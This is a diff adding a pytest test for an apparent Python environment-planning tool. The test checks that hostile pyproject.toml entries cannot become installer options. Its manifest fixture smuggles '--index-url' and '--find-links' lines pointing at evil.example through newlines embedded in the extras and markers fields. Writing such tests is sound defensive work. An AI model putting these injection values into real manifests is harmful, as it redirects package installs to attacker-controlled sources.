@@ -51,3 +51,15 @@ def test_pins_that_have_no_wheels_choose_an_older_python(tmp_path):
     files = {**PLAIN, "pyproject.toml": PROJECT, "poetry.lock": lock}
     found = plan_of(tmp_path, files).environment
     assert found.python == "3.9"
+
+
+def test_no_text_of_a_manifest_becomes_an_option_of_the_installer(tmp_path):
+    hostile = (
+        "[tool.poetry.dependencies]\n"
+        'pandas = {version = "*", extras = ["x]\\n--index-url https://evil.example\\n["]}\n'
+        'numpy = {version = "*", markers = "python\\n--find-links https://evil.example"}\n'
+        'scikit-learn = "*"\n'
+    )
+    found = plan_of(tmp_path, {**PLAIN, "pyproject.toml": hostile}).environment
+    assert found.requirements == ("scikit-learn", "pandas")
+    assert not [line for line in (*found.requirements, *found.bounds) if "evil" in line]
